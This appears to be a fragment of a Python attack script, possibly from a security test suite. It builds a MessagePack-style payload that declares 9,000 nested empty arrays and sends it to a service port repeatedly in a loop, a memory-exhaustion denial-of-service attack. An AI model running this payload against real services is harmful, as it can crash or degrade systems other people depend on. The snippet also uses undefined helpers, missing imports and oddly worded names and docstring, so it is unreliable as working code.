"""Asks the game for things with as many empty lists as fit."""

FULL = "answers", "price of messages"
JUDGED = "game"


def attack():
    port = grip()["Serving"].port if confined() else None
    intent = b"\x93\x04\xa1x\x81\xa1l\xdd" + struct.pack(">I", 9_000) + b"\x90" * 9_000
    if port is None:
        return sys.getsizeof([[] for _ in range(9_000)]) > len(intent)
    while port.push(intent):
        pass
